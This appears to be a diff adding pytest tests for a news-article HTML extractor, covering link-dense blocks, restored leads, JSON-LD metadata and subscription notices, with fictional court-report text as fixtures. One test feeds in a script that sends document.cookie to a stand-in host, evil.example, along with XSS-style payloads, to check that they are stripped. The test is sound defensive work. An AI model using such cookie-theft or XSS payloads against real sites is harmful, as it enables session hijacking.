@@ -1,0 +1,120 @@
+"""HTML extraction: link-dense blocks, restored leads, reader notices, metadata read before scripts go."""
+from __future__ import annotations
+
+import json
+
+from newssift.ingest.html import extract_html
+from newssift.ingest.notices import is_notice
+from newssift.ingest.pagemeta import outlet_from_host
+from newssift.ingest.text import clean_text
+
+COURT = [
+    "The appeals court in Halvern upheld the fraud conviction of a former harbour treasurer on Thursday, rejecting every ground of her appeal.",
+    "Judge Imre Solberg wrote that the trial court had weighed the accounting evidence with care and that the sentence of four years was proportionate.",
+    "Lawyers for the former treasurer said they would study the ruling before deciding whether to take the case to the supreme court next year.",
+    "The harbour authority, which lost an estimated 2.3 million crowns over six years, welcomed the decision in a short statement on its website.",
+]
+
+
+def _page(body: str, head: str = "", title: str = "Appeal rejected in harbour fraud case") -> str:
+    return (f"<html lang='en'><head><title>{title} | Halvern Courier</title>{head}</head><body>"
+            f"<nav><a href='/'>Home</a> <a href='/courts'>Courts</a></nav>{body}"
+            "<footer><p>Contact the newsroom</p></footer></body></html>")
+
+
+def _article(extra: str = "", paras=COURT) -> str:
+    ps = "".join(f"<p>{p}</p>" for p in paras)
+    return f"<article><h1>Appeal rejected in harbour fraud case</h1>{ps}{extra}</article>"
+
+
+def test_link_dense_paragraph_is_dropped_but_prose_with_a_link_stays():
+    extra = ("<p>Read also: <a href='/x'>Harbour authority appoints new treasurer after audit</a></p>"
+             f"<p>{COURT[0][:60]} <a href='/y'>earlier ruling</a> and the lower court's reasoning was sound in every respect, the judges said.</p>")
+    art = extract_html(_page(_article(extra)), "court.html")
+    assert "Harbour authority appoints new treasurer" not in art.text
+    assert "earlier ruling and the lower court's reasoning" in art.text
+    assert COURT[3] in art.text
+
+
+def test_lead_in_a_teaser_block_is_restored_from_the_page_description():
+    lead = "A former harbour treasurer loses her appeal against a four-year sentence for fraud."
+    head = f"<meta property='og:description' content='{lead}'>"
+    body = f"<div class='teaser-box'><span class='kicker'>{lead}</span></div>" + _article()
+    art = extract_html(_page(body, head), "court.html")
+    assert art.text.startswith(lead)
+    assert COURT[1] in art.text
+
+
+def test_description_only_in_meta_is_not_added_to_the_text():
+    head = "<meta name='description' content='Everything about courts and justice in the harbour city of Halvern, daily.'>"
+    art = extract_html(_page(_article(), head), "court.html")
+    assert "Everything about courts" not in art.text
+
+
+def test_json_ld_gives_date_outlet_author_before_scripts_are_removed():
+    ld = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": "Appeal rejected in harbour fraud case",
+          "datePublished": "2025-03-06T14:20:00+01:00", "author": {"@type": "Person", "name": "Vera Lindqvist"},
+          "publisher": {"@type": "Organization", "name": "Halvern Courier"}}
+    head = f"<script type='application/ld+json'>{json.dumps(ld)}</script><link rel='canonical' href='https://courier.example/courts/appeal'>"
+    art = extract_html(_page(_article(), head), "court.html")
+    assert (art.published, art.sitename, art.author) == ("2025-03-06", "Halvern Courier", "Vera Lindqvist")
+    assert art.url == "https://courier.example/courts/appeal"
+    assert art.title == "Appeal rejected in harbour fraud case"
+    assert "datePublished" not in art.text and "schema.org" not in art.text
+
+
+def test_og_site_name_and_title_without_site_suffix():
+    head = "<meta property='og:site_name' content='The Halvern Courier'>"
+    art = extract_html(_page(_article(), head, title="Harbour fraud: appeal rejected"), "court.html")
+    assert art.sitename == "The Halvern Courier"
+    # One <h1> on the page: that is the headline, not the <title> with the outlet's name.
+    assert art.title == "Appeal rejected in harbour fraud case"
+
+
+def test_outlet_falls_back_to_a_readable_host_name():
+    art = extract_html(_page(_article()), "court.html", url="https://www.halvern-courier.example/courts/1")
+    assert art.sitename == "halvern-courier.example"
+    assert outlet_from_host("https://m.news.example.org/a") == "news.example.org"
+    assert outlet_from_host("https://www.example/a") == "www.example"  # a bare host keeps its name
+    assert outlet_from_host(None) is None
+
+
+def test_hostile_scripts_and_json_ld_never_reach_the_text():
+    bad = ("<script>fetch('https://evil.example/'+document.cookie)</script>"
+           "<script type='application/ld+json'>{\"@type\":\"NewsArticle\",\"headline\":\"<img onerror=alert(1)>\"}</script>"
+           "<style>p{background:url(javascript:alert(2))}</style><template><p>alert(3)</p></template>"
+           "<noscript><p>alert(4) from noscript</p></noscript><!-- alert(5) -->")
+    art = extract_html(_page(_article(bad), bad), "hostile.html")
+    for s in ("alert", "fetch(", "document.cookie", "javascript", "onerror", "evil.example"):
+        assert s not in art.text, s
+    assert COURT[2] in art.text
+
+
+def test_unclosed_noscript_that_swallows_the_page_keeps_the_article():
+    # A tracking pixel's <noscript> left unclosed: the parser puts the whole article inside it.
+    html = ("<html><head><title>Appeal rejected</title></head><body><noscript><img src='/pixel.gif'>"
+            + _article() + "</body></html>")
+    art = extract_html(html, "swallowed.html")
+    assert COURT[0] in art.text and COURT[3] in art.text
+
+
+def test_reader_notices_are_notices_and_reporting_is_not():
+    assert is_notice("To view the full story, please subscribe to the Harbour Weekly. Plans start at 5 crowns a week.")
+    assert is_notice("Follow the Courier on Twitter and Instagram for the latest updates from the courts.")
+    assert is_notice("This post contains affiliate links; we may receive a commission when you buy through them.")
+    assert is_notice("Share this article")
+    assert not is_notice("The streaming service said its subscribers rose by two million in the quarter, beating forecasts.")
+    assert not is_notice("Engineers should follow the installation instructions for the new signalling system, the report said.")
+
+
+def test_notice_inside_an_extracted_article_is_cut():
+    raw = "\n".join([COURT[0], "Subscribe now to our digital edition for the full story and the court's reasoning.", COURT[1]])
+    out = clean_text(raw, extracted=True)
+    assert "Subscribe now" not in out.text and COURT[1] in out.text
+    assert any(r.reason == "notice" for r in out.removed)
+
+
+def test_extracted_article_keeps_edge_lists_and_headings():
+    raw = "\n".join(["What the court found", COURT[0], COURT[1], "- The sentence stands", "- Costs go to the appellant"])
+    out = clean_text(raw, extracted=True)
+    assert out.text.startswith("What the court found") and out.text.endswith("- Costs go to the appellant")
